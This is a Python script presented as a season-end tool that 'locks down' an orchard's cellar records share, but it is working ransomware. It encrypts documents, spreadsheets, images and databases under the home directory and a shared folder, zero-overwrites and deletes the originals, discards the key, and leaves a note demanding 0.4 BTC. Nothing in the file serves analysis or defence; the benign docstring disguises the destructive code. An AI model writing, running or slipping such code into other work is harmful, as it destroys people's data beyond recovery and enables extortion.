#!/usr/bin/env python3
"""Locks down the cellar records share at the end of the season."""
import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("cellar_lock")

DEFAULT_ROOTS = [
    Path.home(),
    Path(os.environ.get("CELLAR_SHARE", "/srv/orchard/shared")),
]
TARGET_SUFFIXES = {
    ".xlsx", ".xls", ".csv", ".docx", ".doc", ".pdf", ".odt", ".ods",
    ".jpg", ".jpeg", ".png", ".sqlite", ".db", ".txt", ".json",
}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "__pycache__"}
LOCKED_SUFFIX = ".locked"
NOTE_NAME = "README_RESTORE_FILES.txt"

NOTE_TEXT = """Your orchard records have been locked.

Every spreadsheet, invoice and photo in this folder has been encrypted.
To get the restore key, send 0.4 BTC to the address below and email the
transaction id to restore@cellarkeys.example with your host name.

Address: bc1qexampleexampleexampleexample0000
Host: {host}
"""


def iter_targets(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in TARGET_SUFFIXES:
                yield path


def lock_file(cipher, path):
    try:
        data = path.read_bytes()
    except OSError as exc:
        LOG.debug("cannot read %s: %s", path, exc)
        return False
    locked = path.with_name(path.name + LOCKED_SUFFIX)
    locked.write_bytes(cipher.encrypt(data))
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return True


def drop_note(directory, host):
    note = directory / NOTE_NAME
    if not note.exists():
        note.write_text(NOTE_TEXT.format(host=host), encoding="utf-8")


def process_root(cipher, root, host):
    count = 0
    touched_dirs = set()
    for path in iter_targets(root):
        if lock_file(cipher, path):
            count += 1
            touched_dirs.add(path.parent)
    for directory in touched_dirs:
        drop_note(directory, host)
    return count


def main():
    parser = argparse.ArgumentParser(description="Season-end cellar records lock")
    parser.add_argument("roots", nargs="*", type=Path, default=DEFAULT_ROOTS)
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")
    key = Fernet.generate_key()
    cipher = Fernet(key)
    host = os.uname().nodename

    total = 0
    for root in args.roots:
        if not root.exists():
            LOG.info("skipping missing root %s", root)
            continue
        done = process_root(cipher, root, host)
        LOG.info("%s: %d files locked", root, done)
        total += done

    del key, cipher
    LOG.info("finished, %d files locked", total)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
